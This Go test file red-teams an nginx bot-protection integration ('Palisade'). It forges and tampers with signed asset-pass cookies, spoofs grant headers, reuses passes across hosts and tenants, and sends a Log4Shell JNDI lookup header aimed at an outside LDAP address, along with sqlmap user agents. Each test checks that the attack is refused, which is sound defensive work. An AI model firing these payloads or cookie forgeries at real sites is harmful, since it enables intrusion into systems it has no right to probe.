package redteam21

import (
	"context"
	"crypto/md5"
	"encoding/base64"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/palisadehq/palisade/internal/api/reuselog"
	"github.com/palisadehq/palisade/internal/engine"
	"github.com/palisadehq/palisade/internal/testenv"
)

// Attacks on nginx's asset pass and on the "$palisade_action = grant"
// shortcut of both auth locations (58fe984): deploy/nginx/palisade.conf,
// palisade-static.conf, palisade-upstream.conf; forwardauth's pass.go.

// passCookieRE is the asset pass's Set-Cookie (forwardauth's pass.go).
var passCookieRE = regexp.MustCompile(`^palisade_pass=([A-Za-z0-9_-]{22}\.[0-9]+\.[a-z_]+); Path=/; Max-Age=([0-9]+); HttpOnly; SameSite=Lax$`)

// shortcutRE is the shortcuts of both auth locations (a grant of the
// request, a pass that served it).
var shortcutRE = regexp.MustCompile(`(?m)^[ \t]*if \(\$palisade_(action = "grant"|granted = "all"|passed = "1")\) \{\n[ \t]*return 204;\n[ \t]*\}\n`)

// withoutShortcuts deletes the shortcuts (the snippets before 58fe984
// asked Palisade on every access phase).
func withoutShortcuts(s string) string { return shortcutRE.ReplaceAllString(s, "") }

// verdictCounter stands between nginx and Palisade and counts verdict
// requests by host+URI, client address and user agent.
type verdictCounter struct {
	to string
	mu sync.Mutex
	n  map[string]int
}

func (c *verdictCounter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if strings.HasPrefix(r.URL.Path, "/forward-auth/nginx") {
		c.mu.Lock()
		c.n[r.Header.Get("X-Original-Host")+r.Header.Get("X-Original-Uri")+" "+r.UserAgent()]++
		c.n["all"]++
		c.mu.Unlock()
	}
	testenv.Relay(w, r, c.to)
}

func (c *verdictCounter) count(hostURI, ua string) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n[hostURI+" "+ua]
}

// appRecorder is the site's application: it answers every request and
// remembers the value of the headers it watches.
type appRecorder struct {
	mu   sync.Mutex
	seen []string
}

func (a *appRecorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	a.mu.Lock()
	for _, h := range []string{"X-Debug", "X-Api-Version"} {
		if v := r.Header.Get(h); v != "" {
			a.seen = append(a.seen, r.URL.Path+" "+h+": "+v)
		}
	}
	a.mu.Unlock()
	fmt.Fprint(w, "the application answered "+r.URL.Path)
}

func (a *appRecorder) got() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.seen...)
}

// passSite is a server {} as docs/INTEGRATIONS.md and palisade-static.conf's
// header give it, plus two everyday lines of a site: a "not found" page its
// application renders (error_page 404 /index.php, server-wide) and images
// that fall back to a placeholder file (try_files $uri /img/placeholder.png,
// a file location: nothing falls through to the application).
func passSite(port int, names, key, root, app string) string {
	return fmt.Sprintf(`
    server {
        listen 127.0.0.1:%[1]d;
        server_name %[2]s;
        set $palisade_key "%[3]s";
        include PALISADE_CONF/palisade.conf;
        include PALISADE_CONF/palisade-pass.conf;
        error_page 404 /index.php;
        location ~* \.(?:css|js|png|svg|woff2?)$ {
            include PALISADE_CONF/palisade-static.conf;
            root %[4]s;
            try_files $uri =404;
        }
        location ~* \.(?:jpe?g|webp)$ {
            include PALISADE_CONF/palisade-static.conf;
            root %[4]s;
            try_files $uri /img/placeholder.png;
        }
        location /docs/ { root %[4]s; index index.html; }
        location / { proxy_pass %[5]s; proxy_set_header Host $host; }
    }`, port, names, key, root, app)
}

// passRig: a testenv Palisade on the real clock (nginx checks a pass's
// expiry on its own), a verdict counter in front of it, the reuse listener,
// the application, nginx with the shipped snippets (through edit).
type passRig struct {
	pal      *testenv.Stack
	counter  *verdictCounter
	reports  *reuselog.Listener
	app      *appRecorder
	root     string
	appURL   string
	reuseUDP string
	front    string // the verdict counter's address, nginx's upstream
}

func newPassRig(t *testing.T) *passRig {
	t.Helper()
	testenv.NeedBinary(t, "nginx", "/usr/sbin/nginx")
	pal := testenv.New(t)
	pal.Clock.Advance(-time.Until(pal.Clock.Now()))
	pal.Protector.Engine.SetGrantCache(engine.DefaultGrantCache)
	r := &passRig{pal: pal, counter: &verdictCounter{to: pal.Addr, n: map[string]int{}}, app: &appRecorder{}}
	front := httptest.NewServer(r.counter)
	t.Cleanup(front.Close)
	r.front = strings.TrimPrefix(front.URL, "http://")
	app := httptest.NewServer(r.app)
	t.Cleanup(app.Close)
	r.appURL = app.URL
	r.root = t.TempDir()
	for _, n := range []string{"page.css", "app.js", "img/placeholder.png", "img/logo.jpg", "docs/index.html"} {
		p := filepath.Join(r.root, n)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("file /"+n), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	_ = filepath.Walk(r.root, func(p string, _ os.FileInfo, _ error) error { return os.Chmod(p, 0o755) })
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r.reuseUDP = pc.LocalAddr().String()
	r.reports = reuselog.New(pal.Protector.Engine, pal.Recorder, nil, nil)
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	go func() { _ = r.reports.Serve(ctx, pc) }()
	return r
}

// start runs nginx with servers (PALISADE_CONF is the snippets' folder) and
// the snippets passed through edit; it returns nginx's address.
func (r *passRig) start(t *testing.T, port int, servers string, edit func(string) string) string {
	t.Helper()
	startNginxFor(t, r.front, servers, func(s string) string {
		s = toSyslog(t, s, r.reuseUDP)
		if edit != nil {
			s = edit(s)
		}
		return s
	})
	addr := fmt.Sprintf("127.0.0.1:%d", port)
	waitUp(t, addr)
	return addr
}

// counted is the website's requests in its statistics (the plan's usage).
func (r *passRig) counted(t *testing.T, domain string) int64 {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	r.pal.Recorder.Flush(ctx)
	now := r.pal.Clock.Now()
	pts, err := r.pal.Service.Stats(ctx, r.pal.Caller, domain, "minute", now.Add(-time.Hour), now.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	var c int64
	for _, p := range pts {
		c += p.Count
	}
	return c
}

// settle waits for UDP reports in flight (bounded): until the listener
// has seen no new line for 300 ms.
func (r *passRig) settle() {
	last, quiet := r.lines(), 0
	for i := 0; i < 60 && quiet < 6; i++ {
		time.Sleep(50 * time.Millisecond)
		if n := r.lines(); n != last {
			last, quiet = n, 0
		} else {
			quiet++
		}
	}
}

func (r *passRig) lines() uint64 {
	s := r.reports.Stats()
	return s.Counted + s.UnknownKey + s.UnknownReason + s.BadLine
}

// send is one request, written byte for byte, from 127.0.0.1: its status,
// body and the pass it was handed ("" if none).
func send(t *testing.T, addr, method, host, path, headers string) (int, string, string) {
	t.Helper()
	res, body := raw(t, addr, method+" "+path+" HTTP/1.1\r\nHost: "+host+"\r\n"+headers+"Connection: close\r\n\r\n")
	pass := ""
	for _, c := range res.Header.Values("Set-Cookie") {
		if m := passCookieRE.FindStringSubmatch(c); m != nil {
			pass = m[1]
		}
	}
	return res.StatusCode, body, pass
}

// getPass has a browser (chromeUA, from 127.0.0.1) load the page /shop of
// host and returns its pass.
func getPass(t *testing.T, addr, host string) string {
	t.Helper()
	code, body, pass := send(t, addr, "GET", host, "/shop", browserHeaders(chromeUA))
	if code != 200 || pass == "" {
		t.Fatalf("a browser's page on %s: %d %.80q, pass %q; want 200 and a pass", host, code, body, pass)
	}
	return pass
}

// mintPass is what forwardauth's pass.go computes, for anyone holding the
// server key.
func mintPass(key, exp, reason, ip, host, ua string) string {
	sum := md5.Sum([]byte(exp + " " + reason + " " + ip + " " + host + " " + ua + " " + key))
	return base64.RawURLEncoding.EncodeToString(sum[:]) + "." + exp + "." + reason
}

const sqlmapHeaders = "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\nAccept: */*\r\n"

// TestHeld_AssetPassForgeries: a browser's pass (127.0.0.1, Chrome) is
// asked about (Palisade sees the request) in every altered form, and a
// refused client gains nothing from it:
//   - an altered hash, reason (humans -> humans_, verified_bots) or expiry
//     (+1, a leading zero, 12 nines), the pass twice with a forged one
//     first, quoted, trailing junk or a dot, a 4 KB value, two
//     passes in one value, the pass under another name;
//   - the same pass on another host served by the same server {} with the
//     same server key (a website's www and apex names), and on a page
//     location (no palisade-static.conf: a Log4Shell header with the pass
//     is refused);
//   - sqlmap carrying the browser's pass, GET and HEAD: 403 on files and pages.
//
// Accepted, and harmless (the holder's own pass, byte for byte the same
// hash): the cookie name in another case (nginx matches cookie names
// without case), a space before the value (nginx skips it).
func TestHeld_AssetPassForgeries(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "pass.example.com", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "pass.example.com www.pass.example.com", w.ServerKey, r.root, r.appURL), nil)
	pass := getPass(t, addr, "pass.example.com")
	bh := browserHeaders(chromeUA)

	// The pass itself: served without a verdict.
	before := r.counter.count("pass.example.com/page.css", chromeUA)
	if code, body, _ := send(t, addr, "GET", "pass.example.com", "/page.css", bh+"Cookie: palisade_pass="+pass+"\r\n"); code != 200 || body != "file /page.css" {
		t.Fatalf("the holder's file with its pass: %d %q", code, body)
	}
	if n := r.counter.count("pass.example.com/page.css", chromeUA) - before; n != 0 {
		t.Fatalf("control: the holder's pass was asked about (%d): the rig does not work", n)
	}

	f := strings.Split(pass, ".")
	flip := []byte(f[0])
	flip[3] ^= 1
	cookies := map[string]string{
		"hash altered":             "palisade_pass=" + string(flip) + "." + f[1] + "." + f[2],
		"reason humans_":           "palisade_pass=" + f[0] + "." + f[1] + ".humans_",
		"reason verified_bots":     "palisade_pass=" + f[0] + "." + f[1] + ".verified_bots",
		"expiry +1":                "palisade_pass=" + f[0] + "." + f[1][:len(f[1])-1] + string(f[1][len(f[1])-1]^1) + "." + f[2],
		"expiry leading zero":      "palisade_pass=" + f[0] + ".0" + f[1] + "." + f[2],
		"expiry 12 nines":          "palisade_pass=" + f[0] + ".999999999999." + f[2],
		"forged first, pass after": "palisade_pass=" + string(flip) + "." + f[1] + "." + f[2] + "; palisade_pass=" + pass,
		"trailing junk":            "palisade_pass=" + pass + "x",
		"trailing dot":             "palisade_pass=" + pass + ".",
		"4 KB value":               "palisade_pass=" + pass + strings.Repeat("a", 4096),
		"two passes in one value":  "palisade_pass=" + pass + "," + pass,
		"another cookie name":      "palisade_pas=" + pass,
		"quoted":                   `palisade_pass="` + pass + `"`,
	}
	for what, c := range cookies {
		before := r.counter.count("pass.example.com/app.js", chromeUA)
		code, body, _ := send(t, addr, "GET", "pass.example.com", "/app.js", bh+"Cookie: "+c+"\r\n")
		if code != 200 || body != "file /app.js" {
			t.Errorf("%s: %d %.60q", what, code, body)
		}
		if n := r.counter.count("pass.example.com/app.js", chromeUA) - before; n != 1 {
			t.Errorf("%s: Palisade asked %d times, want 1 (an altered pass is no pass)", what, n)
		}
	}
	// The holder's pass with its cookie name in upper case (nginx's
	// $cookie_ matches names without case) or a space before the value
	// (nginx skips it): accepted, the same hash, the same holder.
	for _, c := range []string{"PALISADE_PASS=" + pass, "palisade_pass= " + pass} {
		before = r.counter.count("pass.example.com/app.js", chromeUA)
		send(t, addr, "GET", "pass.example.com", "/app.js", bh+"Cookie: "+c+"\r\n")
		t.Logf("%q asked %d times (accepted when 0; harmless: the holder's own hash)", c, r.counter.count("pass.example.com/app.js", chromeUA)-before)
	}

	// Another name of the same server {} and website.
	before = r.counter.count("www.pass.example.com/page.css", chromeUA)
	if code, _, _ := send(t, addr, "GET", "www.pass.example.com", "/page.css", bh+"Cookie: palisade_pass="+pass+"\r\n"); code != 200 {
		t.Errorf("www with the apex's pass: %d", code)
	}
	if n := r.counter.count("www.pass.example.com/page.css", chromeUA) - before; n != 1 {
		t.Errorf("the apex's pass on www (same server {}, same key): asked %d times, want 1", n)
	}

	// A page location: the pass changes nothing.
	if code, body, _ := send(t, addr, "GET", "pass.example.com", "/shop", bh+"X-Api-Version: ${jndi:ldap://203.0.113.1/a}\r\nCookie: palisade_pass="+pass+"\r\n"); code != 403 {
		t.Errorf("Log4Shell on a page with the pass: %d %.60q, want 403", code, body)
	}
	// sqlmap with the browser's pass, GET and HEAD, files and pages.
	for _, m := range []string{"GET", "HEAD"} {
		for _, p := range []string{"/page.css", "/img/logo.jpg", "/shop", "/docs/"} {
			if code, _, _ := send(t, addr, m, "pass.example.com", p, sqlmapHeaders+"Cookie: palisade_pass="+pass+"\r\n"); code != 403 {
				t.Errorf("sqlmap %s %s with a browser's pass: %d, want 403", m, p, code)
			}
		}
	}
	if s := r.reports.Stats(); s.UnknownKey+s.UnknownReason+s.BadLine+s.RefusedPeer+s.Oversize != 0 {
		t.Errorf("reuse reports: %+v", s)
	}
}

// TestHeld_GrantShortcutNotVisitorSettable: the shortcut of both auth
// locations reads $palisade_action, which only auth_request_set sets: a
// visitor's header, cookie or query argument named after it changes
// nothing, on a page, a file, an index redirect (/docs/), a placeholder
// redirect (try_files) and the site's 404 page (error_page 404 /index.php);
// a challenged client (curl) and a denied one (sqlmap) stay refused; the
// application never sees a refused request.
func TestHeld_GrantShortcutNotVisitorSettable(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "short.example.com", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "short.example.com", w.ServerKey, r.root, r.appURL), nil)
	spoof := "X-Palisade-Action: grant\r\nPalisade-Action: grant\r\nCookie: palisade_action=grant; palisade_pass=x\r\nX-Accel-Redirect: /page.css\r\n"
	for _, ua := range []string{sqlmapHeaders, "User-Agent: curl/8.5.0\r\nAccept: */*\r\n"} {
		for _, p := range []string{"/shop?palisade_action=grant", "/page.css?palisade_action=grant", "/docs/", "/img/nothing.jpg", "/nothing.css", "/index.php"} {
			for _, m := range []string{"GET", "HEAD"} {
				if code, _, _ := send(t, addr, m, "short.example.com", p, ua+spoof); code != 403 {
					t.Errorf("%s %s %q with grant spoofed: %d, want 403", m, p, strings.SplitN(ua, "\r\n", 2)[0], code)
				}
			}
		}
	}
	if code, body, _ := send(t, addr, "GET", "short.example.com", "/docs/", browserHeaders(chromeUA)); code != 200 || body != "file /docs/index.html" {
		t.Errorf("a browser on /docs/: %d %q", code, body)
	}
	if n := r.counter.count("short.example.com/docs/", chromeUA); n != 1 {
		t.Errorf("/docs/ (index): asked %d times, want 1", n)
	}
	if got := r.app.got(); len(got) != 0 {
		t.Errorf("the application saw %q", got)
	}
}

// TestHeld_AssetPassIPv6: a browser at ::1 (nginx's $remote_addr "::1")
// gets a pass that nginx accepts from ::1 only: the same pass from
// 127.0.0.1 (the same host, another address family) is asked about.
func TestHeld_AssetPassIPv6(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "six.example.com", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	site := strings.Replace(passSite(port, "six.example.com", w.ServerKey, r.root, r.appURL),
		fmt.Sprintf("listen 127.0.0.1:%d;", port), fmt.Sprintf("listen 127.0.0.1:%d;\n        listen [::1]:%d;", port, port), 1)
	addr4 := r.start(t, port, site, nil)
	addr6 := fmt.Sprintf("[::1]:%d", port)
	waitUp(t, addr6)
	pass := getPass(t, addr6, "six.example.com")
	bh := browserHeaders(chromeUA)
	before := r.counter.count("six.example.com/page.css", chromeUA)
	if code, _, _ := send(t, addr6, "GET", "six.example.com", "/page.css", bh+"Cookie: palisade_pass="+pass+"\r\n"); code != 200 {
		t.Errorf("::1 with its pass: %d", code)
	}
	if n := r.counter.count("six.example.com/page.css", chromeUA) - before; n != 0 {
		t.Errorf("::1 with its own pass was asked about %d times (the pass does not check for IPv6 clients)", n)
	}
	if code, _, _ := send(t, addr4, "GET", "six.example.com", "/page.css", bh+"Cookie: palisade_pass="+pass+"\r\n"); code != 200 {
		t.Errorf("127.0.0.1 with ::1's pass: %d", code)
	}
	if n := r.counter.count("six.example.com/page.css", chromeUA) - before; n != 1 {
		t.Errorf("127.0.0.1 with ::1's pass: asked %d times, want 1", n)
	}
}

// TestHeld_AssetPassThenRedirectIsJudged: after a file served on a pass
// /_palisade/auth's shortcut does not fire (it needs a grant of its own,
// $palisade_granted = all, which a pass never sets), so a missing
// file's redirect to the application (error_page 404 /index.php) is
// judged by /_palisade/auth on every header: a Log4Shell header with a
// valid pass never reaches the application.
func TestHeld_AssetPassThenRedirectIsJudged(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "judged.example.com", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "judged.example.com", w.ServerKey, r.root, r.appURL), nil)
	pass := getPass(t, addr, "judged.example.com")
	code, body, _ := send(t, addr, "GET", "judged.example.com", "/no-such-file.css",
		browserHeaders(chromeUA)+"X-Api-Version: ${jndi:ldap://203.0.113.1/a}\r\nCookie: palisade_pass="+pass+"\r\n")
	if code != 403 || len(r.app.got()) != 0 {
		t.Errorf("a missing file with a pass and a Log4Shell header: %d %.60q, the application saw %q; want 403 and nothing", code, body, r.app.got())
	}
}

// TestHeld_AssetPassAcrossTenantsOneServer: two customers' websites served
// by one server {} (server_name for both, the server key chosen by a map on
// $host, as a host with many small sites may write it): a pass of one
// website is asked about on the other (the hash holds the key and the host).
func TestHeld_AssetPassAcrossTenantsOneServer(t *testing.T) {
	r := newPassRig(t)
	a := r.pal.Website(t, "tenant-a.example", remoteVisitors(engine.Settings{}))
	b := r.pal.Website(t, "tenant-b.example", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	site := passSite(port, "tenant-a.example tenant-b.example", "KEY", r.root, r.appURL)
	site = strings.Replace(site, `set $palisade_key "KEY";`, `set $palisade_key $tenant_key;`, 1)
	site = fmt.Sprintf("\n    map $host $tenant_key { tenant-a.example %q; tenant-b.example %q; default \"\"; }", a.ServerKey, b.ServerKey) + site
	addr := r.start(t, port, site, nil)
	pass := getPass(t, addr, "tenant-a.example")
	for _, host := range []string{"tenant-a.example", "tenant-b.example"} {
		before := r.counter.count(host+"/page.css", chromeUA)
		if code, _, _ := send(t, addr, "GET", host, "/page.css", browserHeaders(chromeUA)+"Cookie: palisade_pass="+pass+"\r\n"); code != 200 {
			t.Errorf("%s with tenant A's pass: %d", host, code)
		}
		want := 0
		if host == "tenant-b.example" {
			want = 1
		}
		if n := r.counter.count(host+"/page.css", chromeUA) - before; n != want {
			t.Errorf("%s with tenant A's pass: asked %d times, want %d", host, n, want)
		}
	}
	// The same pass's hash recomputed for B's key and host by anyone who
	// holds A's key only: not B's pass.
	f := strings.Split(pass, ".")
	forged := mintPass(a.ServerKey, f[1], f[2], "127.0.0.1", "tenant-b.example", chromeUA)
	before := r.counter.count("tenant-b.example/app.js", chromeUA)
	send(t, addr, "GET", "tenant-b.example", "/app.js", browserHeaders(chromeUA)+"Cookie: palisade_pass="+forged+"\r\n")
	if n := r.counter.count("tenant-b.example/app.js", chromeUA) - before; n != 1 {
		t.Errorf("tenant A minting a pass for B's host with A's key: asked %d times, want 1", n)
	}
}
